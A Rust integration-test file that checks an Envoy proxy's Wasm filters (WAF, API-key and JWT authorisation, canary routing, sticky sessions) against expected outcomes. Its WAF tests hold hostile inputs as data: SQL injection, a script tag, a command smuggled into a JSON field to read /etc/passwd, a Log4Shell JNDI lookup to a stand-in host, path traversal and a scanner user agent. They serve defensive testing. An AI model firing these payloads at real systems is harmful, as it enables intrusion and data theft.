//! What is shown, and what is expected of it.

use crate::{Application, table};
use integration::jwks::EXAMPLE_TOKEN;
use integration::prelude::*;
use std::collections::BTreeSet;

/// What must come of a request. What is empty or absent may be anything.
#[derive(Clone, Copy, Default)]
struct Expect<'a> {
    status: u16,
    /// What each filter's decision starts with; `-` for a filter that was not asked, and for a waf that has found nothing.
    waf: &'a str,
    authz: &'a str,
    canary: &'a str,
    affinity: &'a str,
    /// What the name of the endpoint starts with; `-` for none.
    endpoint: &'a str,
}

/// A request that passes all filters.
const PASSES: Expect<'static> =
    Expect { status: 200, waf: "-", authz: "allowed", canary: "", affinity: "", endpoint: "v" };

/// A request that the WAF stops.
const STOPPED: Expect<'static> =
    Expect { status: 403, waf: "deny", authz: "-", canary: "-", affinity: "-", endpoint: "-" };

pub(crate) fn play(visitor: &mut Visitor<'_>) {
    waf(visitor);
    authz(visitor);
    canary(visitor);
    affinity(visitor);
}

pub(crate) fn core_rule_set(visitor: &mut Visitor<'_>) {
    table::heading("the OWASP Core Rule Set at paranoia level 1, by the waf alone");
    let alone = |expect: Expect<'static>| Expect { authz: "-", canary: "-", affinity: "-", ..expect };
    let (passes, stopped) = (alone(PASSES), alone(STOPPED));
    let get = |path: &str| Request::get(path).header("user-agent", "Mozilla/5.0").header("accept", "*/*");
    let post = |kind: &str, body: &str| {
        Request::post("/", body)
            .header("user-agent", "Mozilla/5.0")
            .header("accept", "*/*")
            .header("content-type", kind)
    };
    visitor.send("an ordinary search", get("/search?q=red+shoes+size+42"), passes);
    visitor.send("an ordinary form", post(FORM, "name=Ann&text=Nice+shoes%21"), passes);
    visitor.send("ordinary JSON", post(JSON, r#"{"items": [{"id": 7, "name": "Shoes"}]}"#), passes);
    visitor.send("SQL injection in the query", get("/search?q=1%27%20OR%20%271%27=%271%27%20--%20"), stopped);
    visitor.send("a script in a form", post(FORM, "text=%3Cscript%3Ealert(1)%3C/script%3E"), stopped);
    visitor.send(
        "a shell command in JSON",
        post(JSON, r#"{"host": "example.com; cat /etc/passwd"}"#),
        stopped,
    );
    visitor.send(
        "Log4Shell in a header",
        get("/").header("x-api-version", "${jndi:ldap://198.51.100.7/a}"),
        stopped,
    );
    visitor.send("a path traversal", get("/files?name=../../../../etc/passwd"), stopped);
    visitor.send("a scanner", Request::get("/").header("user-agent", "sqlmap/1.8"), stopped);
}

const FORM: &str = "application/x-www-form-urlencoded";
const JSON: &str = "application/json";

fn waf(visitor: &mut Visitor<'_>) {
    table::heading("waf: rules on the request, its body included, before anything goes upstream");
    visitor.send("an ordinary search", Request::get("/search?q=red+shoes+size+42"), PASSES);
    visitor.send("SQL injection in the query", Request::get("/search?q=1%27%20OR%20%271%27=%271"), STOPPED);
    visitor.send("a path traversal", Request::get("/files?name=../../../../etc/passwd"), STOPPED);
    visitor.send(
        "an ordinary form",
        Request::post("/comments", "name=Ann&text=Nice+shoes%21").header("content-type", FORM),
        PASSES,
    );
    visitor.send(
        "a script in a form",
        Request::post("/comments", "text=%3Cscript%3Ealert(1)%3C/script%3E").header("content-type", FORM),
        STOPPED,
    );
    visitor.send(
        "SQL injection in JSON",
        Request::post("/api", r#"{"id": "1 UNION SELECT password FROM users"}"#).header("content-type", JSON),
        STOPPED,
    );
    visitor.send("a scanner", Request::get("/").header("user-agent", "sqlmap/1.8"), STOPPED);
}

fn authz(visitor: &mut Visitor<'_>) {
    table::heading("authz: policies as Istio's, API keys and tokens");
    let denied = Expect { status: 403, authz: "denied", canary: "-", affinity: "-", endpoint: "-", ..PASSES };
    let key = |key: &str| Request::get("/admin").header("x-api-key", key);
    visitor.send("a public page", Request::get("/"), PASSES);
    visitor.send("a method that no policy allows", Request::new("DELETE", "/"), denied);
    visitor.send("the admin page, as anybody", Request::get("/admin"), denied);
    visitor.send("the admin page, with a wrong key", key("guess"), Expect { status: 401, ..denied });
    visitor.send("the admin page, with the key of ops", key("a-key-for-trying-things-out"), PASSES);
    let orders = |token: &str| Request::get("/orders").header("authorization", format!("Bearer {token}"));
    visitor.send("the orders, without a token", Request::get("/orders"), denied);
    visitor.send("the orders, with a token (JWT)", orders(EXAMPLE_TOKEN), PASSES);
    visitor.send("… whose key is another", orders(FORGED), Expect { status: 401, ..denied });
}

/// Such a token, signed with another key.
const FORGED: &str = "eyJhbGciOiJSUzI1NiIsImtpZCI6InJzYSJ9.eyJpc3MiOiJodHRwczovL2lzc3Vlci5leGFtcGxlIiwic3ViIjoiYWRhIiwiYXVkIjoic2hvcCJ9.ca9AogNjUvoiLkDVoWTYz868y5loC68OxnwsnI-nfyV5THQ6yfveBXp2dvKYMxHqks6QYMFYnxfhZsiABWifZhVW1TP_mLlLNJZnb-ooqK4Kn89b34hjP4sjxucENLzsjAgYGrV0dlVj7xkmImyVnqBeImZdmC2ayymDuIxjY5BfIJxYr8MFkeE4kib5CEAU8bn02gBhKz3sP0LT8Q8wU_ZJACms0c0AYnFDyYAZVh1obZaWrNtQmJDuHuuu8IBV4NGLSAUU8x40HQPMpYau7aY1kzjNdHQHv2qVPNySjW-QDxualpWclqILTeUZcuWbm4XbLMry2RB-5jQvOvGh5A";

fn canary(visitor: &mut Visitor<'_>) {
    table::heading("canary: by header, by cookie, and 10 % of the users");
    let stable = Expect { canary: "stable", endpoint: "v1", ..PASSES };
    let v2 = Expect { canary: "v2", endpoint: "v2", ..PASSES };
    let home = || Request::get("/");
    visitor.send("x-canary: always", home().header("x-canary", "always"), v2);
    visitor.send("x-canary: never", home().header("x-canary", "never"), stable);
    visitor.send("the cookie canary=always", home().header("cookie", "canary=always"), v2);
    visitor.send(
        "the header never beats the cookie always",
        home().header("x-canary", "never").header("cookie", "canary=always"),
        stable,
    );
    let (mut in_canary, mut not) = (None, None);
    for user in (1..100).map(|number| format!("user-{number}")) {
        let endpoint = visitor.quietly(home().header("x-user", &user)).upstream().unwrap_or_default();
        *(if endpoint.starts_with("v2") { &mut in_canary } else { &mut not }) = Some(user);
    }
    for (user, expect) in [(in_canary, v2), (not, stable)] {
        let Some(user) = user else {
            visitor.differ("of 99 users, none or all are in the canary");
            continue;
        };
        let endpoints: BTreeSet<_> = (0..9)
            .filter_map(|_| {
                Some(visitor.quietly(home().header("x-user", &user)).upstream()?.get(..2)?.to_owned())
            })
            .collect();
        if endpoints.len() != 1 {
            visitor.differ(&format!("{user} was sent to {endpoints:?}"));
        }
        visitor.send(&format!("{user}, for the tenth time"), home().header("x-user", &user), expect);
    }
}

fn affinity(visitor: &mut Visitor<'_>) {
    table::heading("affinity: a sealed cookie keeps a client with its endpoint");
    // Without the canary's share, so that only affinity chooses.
    let home = || Request::get("/").header("x-canary", "never");
    let new = Expect { affinity: "new", endpoint: "v1", ..PASSES };
    let first = visitor.send("a first visit: a cookie is set", home(), new);
    let cookie = first.header("set-cookie").unwrap_or_default();
    let cookie = cookie.split(';').next().unwrap_or_default().to_owned();
    let endpoint = first.upstream().unwrap_or_default();
    let kept = Expect { affinity: "kept", endpoint: &endpoint, ..PASSES };
    let again = || home().header("cookie", &cookie);
    for _ in 0..9 {
        let answered = visitor.quietly(again()).upstream();
        if answered.as_deref() != Some(&endpoint) {
            visitor.differ(&format!("a client of {endpoint} was sent to {answered:?}"));
        }
    }
    visitor.send("the eleventh, with the cookie", again(), kept);
    scale_up(visitor, &again(), kept);
    let forged = format!("{}AAAA", cookie.get(..cookie.len().saturating_sub(4)).unwrap_or_default());
    visitor.send("a forged cookie", home().header("cookie", &forged), new);
    visitor.send(
        "a header that names an endpoint",
        home().header("x-portcullis-endpoint", "MTI3LjAuMC4xOjEK"),
        new,
    );
    visitor.stop(&endpoint);
    let moved =
        visitor.send("its endpoint is down", again(), Expect { affinity: "moved", endpoint: "v1", ..PASSES });
    let cookie = moved.header("set-cookie").unwrap_or_default();
    let cookie = cookie.split(';').next().unwrap_or_default();
    visitor.restart(&endpoint);
    let moved_to = moved.upstream().unwrap_or_default();
    if moved_to == endpoint {
        visitor.differ("an endpoint that is down has answered");
    }
    visitor.send(
        "it is back: the session stays",
        home().header("cookie", cookie),
        Expect { affinity: "kept", endpoint: &moved_to, ..PASSES },
    );
}

/// Two endpoints become four: a session stays, and new clients reach all of them.
fn scale_up(visitor: &mut Visitor<'_>, again: &Request, kept: Expect<'_>) {
    visitor.deploy(4);
    for _ in 0..9 {
        let answered = visitor.quietly(again.clone()).upstream();
        if answered.as_deref() != Some(kept.endpoint) {
            visitor.differ(&format!(
                "after the scale-up a client of {} was sent to {answered:?}",
                kept.endpoint
            ));
        }
    }
    visitor.send("four endpoints now: ten times more", again.clone(), kept);
    let new =
        (0..16).filter_map(|_| visitor.quietly(Request::get("/").header("x-canary", "never")).upstream());
    let reached: BTreeSet<String> = new.collect();
    if reached.len() != 4 {
        visitor.differ(&format!("after the scale-up, new clients reached {reached:?} only"));
    }
    println!("{:42}new clients reach {}", "", reached.into_iter().collect::<Vec<_>>().join(", "));
}

/// The same 500 users at a share that grows, and is taken back.
pub(crate) fn shares(application: &Application) -> Vec<String> {
    const USERS: usize = 500;
    println!("\ncanary: the same {USERS} users, as the share grows\n");
    println!("share  users in v2  new  taken out  moved in ten visits");
    println!("-----  -----------  ---  ---------  -------------------");
    let mut config = Config::new()
        .cluster(Cluster::new("v1", &application.v1))
        .cluster(Cluster::new("v2", [&application.v2]));
    let shares = [1, 10, 25, 50, 100];
    for share in shares {
        let release = json!({"name": "v2", "weight": share, "key": [{"header": "x-user"}]});
        let in_v2 = json!([{"key": "wasm.canary", "string_match": {"exact": "v2"}}]);
        config = config.listener(
            Listener::new(&format!("{share} %"))
                .filter(Wasm::module("canary").config(json!({"releases": [release]})))
                .route(json!({"match": {"prefix": "/", "filter_state": in_v2}, "route": {"cluster": "v2"}}))
                .route_to("v1"),
        );
    }
    let envoy = config.start();
    let mut differences = Vec::new();
    let mut before = BTreeSet::new();
    for share in shares {
        let client = envoy.client_of(&format!("{share} %"));
        let visit = |users: &[usize]| -> BTreeSet<usize> {
            let requests =
                users.iter().map(|user| Request::get("/").header("x-user", format!("user-{user}")));
            let answers = client.send_all(requests);
            let reached = users.iter().zip(answers).filter(|(_, answer)| {
                let reached = answer.as_ref().ok().and_then(Response::upstream);
                reached.is_some_and(|endpoint| endpoint.starts_with("v2"))
            });
            reached.map(|(user, _)| *user).collect()
        };
        let taken = visit(&(0..USERS).collect::<Vec<_>>());
        // Some users of either version, nine times more.
        let some: Vec<usize> = (0..20).collect();
        let wavering = (0..9).filter(|_| visit(&some) != taken.range(..20).copied().collect()).count();
        let (new, lost) = (taken.difference(&before).count(), before.difference(&taken).count());
        println!("{share:>3} %  {:>11}  {new:>3}  {lost:>9}  {wavering:>19}", taken.len());
        if lost > 0 || wavering > 0 || taken.len().abs_diff(USERS * share / 100) > USERS / 20 {
            differences
                .push(format!("at {share} %: {} users, {lost} taken out, {wavering} wavering", taken.len()));
        }
        before = taken;
    }
    differences
}

/// Sends requests, shows what came of them and remembers what is not as expected.
pub(crate) struct Visitor<'a> {
    envoy: &'a Envoy,
    application: &'a Application,
    differences: Vec<String>,
}

impl<'a> Visitor<'a> {
    pub(crate) fn new(envoy: &'a Envoy, application: &'a Application) -> Self {
        Self { envoy, application, differences: Vec::new() }
    }

    /// What is not as expected.
    pub(crate) fn finish(self) -> Vec<String> {
        self.differences
    }

    fn send(&mut self, what: &str, request: Request, expect: Expect<'_>) -> Response {
        let response = self.envoy.send(request);
        let line = self.envoy.access_log(&response.id);
        let state = |filter: &str| line.filter_state(filter).unwrap_or_else(|| "-".to_owned());
        let reason = line.filter_state("canary_reason").map(|reason| format!(" ({reason})"));
        let canary = state("canary") + &reason.unwrap_or_default();
        let endpoint = response.upstream().unwrap_or_else(|| "-".to_owned());
        let found = [state("waf"), state("authz"), canary, state("affinity"), endpoint];
        let expected = [expect.waf, expect.authz, expect.canary, expect.affinity, expect.endpoint];
        for ((column, found), expected) in
            ["waf", "authz", "canary", "affinity", "endpoint"].into_iter().zip(&found).zip(expected)
        {
            if !found.starts_with(expected) {
                self.differ(&format!("{what}: {column}: expected {expected}, found {found}"));
            }
        }
        if response.status != expect.status {
            self.differ(&format!("{what}: expected status {}, found {}", expect.status, response.status));
        }
        if self.reached_upstream(&response) != (expect.endpoint != "-") {
            self.differ(&format!("{what}: reached an endpoint: {}", expect.endpoint == "-"));
        }
        let [waf, authz, canary, affinity, endpoint] = found;
        table::row([what.to_owned(), waf, authz, canary, affinity, response.status.to_string(), endpoint]);
        response
    }

    fn quietly(&self, request: Request) -> Response {
        self.envoy.send(request)
    }

    fn reached_upstream(&self, response: &Response) -> bool {
        self.endpoints().any(|endpoint| !endpoint.seen(&response.id).is_empty())
    }

    fn differ(&mut self, difference: &str) {
        self.differences.push(difference.to_owned());
    }

    fn stop(&self, name: &str) {
        self.endpoints().filter(|endpoint| endpoint.name() == name).for_each(Upstream::stop);
    }

    /// Has Envoy know the first endpoints of version 1, so many of them.
    fn deploy(&self, count: usize) {
        self.envoy.deploy(&["v1"], &self.application.endpoints(count));
    }

    fn restart(&self, name: &str) {
        self.endpoints().filter(|endpoint| endpoint.name() == name).for_each(Upstream::restart);
    }

    fn endpoints(&self) -> impl Iterator<Item = &'a Upstream> {
        self.application.v1.iter().chain([&self.application.v2])
    }
}
